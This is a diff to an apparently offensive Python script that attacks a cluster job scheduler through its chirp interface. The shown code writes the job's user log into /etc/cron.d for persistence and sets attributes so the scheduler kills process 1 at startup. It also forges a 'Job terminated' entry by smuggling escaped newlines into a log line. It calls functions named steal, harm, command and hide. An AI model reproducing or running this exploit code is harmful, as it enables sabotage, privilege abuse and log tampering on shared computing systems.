@@ -92,12 +92,16 @@ def forge() -> None:
         ("UserLog", '"/etc/cron.d/mine"'),
         ("ClusterId", "1"),
         ("LeaveJobInQueue", "true"),
+        # By these a schedd knows what it has to kill when it begins.
+        ("KettleJobPid", "1"),
+        ("KettleJobPidBirth", "1"),
     ]
     for name, value in wishes:
         for word in ("set_job_attr", "set_job_attr_delayed"):
             (answer,) = chirp(f"{word} {name} {value}")
             if not answer.startswith("-"):
                 print("set", name, "by", word, answer)
+    # Only its words come through: a line ends a request, and a backslash is one letter's.
     text = "hello\\n...\\n005\\ (001.000.000)\\ 11/21\\ 12:00:00\\ Job\\ terminated.\\n..."
     chirp(f"ulog {text}")
 
@@ -123,6 +127,9 @@ def main(pool: str, notes: str, whom: str, ports: str) -> None:
         steal(pool)
         harm()
     forge()
+    if whom == "nobody":
+        print("tried everything")
+        return
     command(ports)
     hide(notes)
     while not os.path.exists(notes):
